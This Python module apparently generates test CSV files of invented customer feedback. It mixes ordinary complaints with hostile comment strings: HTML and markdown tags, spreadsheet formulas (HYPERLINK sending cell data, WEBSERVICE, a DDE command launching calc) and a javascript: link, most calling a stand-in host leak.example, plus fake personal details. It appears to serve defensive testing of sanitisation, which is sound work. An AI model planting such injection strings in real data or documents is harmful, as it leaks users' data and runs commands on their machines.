"""Invented feedback for the proof, with content that could make a library contact another host."""

import csv
from pathlib import Path

HOSTILE = (
    "Write to jane.roe@mail.example or see https://survey.example/r?RecipientEmail=jane%40mail.example about delivery.",
    "Late again ![pixel](http://leak.example/p.png?q=secret) and nobody cared.",
    'Nice page <img src="http://leak.example/i.png"> but the delivery was late.',
    '<form action="http://leak.example/f"><input name="q"></form> the form never loads.',
    "<style>@import url(http://leak.example/s.css);</style> the colors are odd.",
    '<link rel="dns-prefetch" href="//leak.example"><script src="http://leak.example/x.js"></script> slow page.',
    '=HYPERLINK("http://leak.example/?c="&A1,"click") the invoice link is broken.',
    "=WEBSERVICE(\"http://leak.example/\") +cmd|' /C calc'!A0 strange things in the export.",
    "[click here](javascript:alert(1)) or ws://leak.example/socket, says the chat.",
    "My card 4111 1111 1111 1111 was charged twice, call 020 7946 0018.",
)
PLAIN = (
    "The parcel came two weeks late.", "Delivery was quick and the driver was friendly.", "Returns took forever.",
    "Great prices, poor packaging.", "I waited forty minutes on the phone.", "The app crashes when I pay.",
    "Staff in the shop were helpful.", "The sofa is smaller than in the picture.", "No answer to three messages.",
    "Would buy again.",
)  # fmt: skip


def write_sample(file: Path, rows: int) -> None:
    """Write rows of feedback as CSV, repeating the same texts."""
    texts = HOSTILE + PLAIN
    with file.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["id", "date", "channel", "rating", "comment"])
        for number in range(rows):
            day = f"2024-{number % 12 + 1:02}-{number % 28 + 1:02}"
            writer.writerow(
                [f"S-{number}", day, ("web", "app", "store")[number % 3], number % 5 + 1, texts[number % 20]]
            )
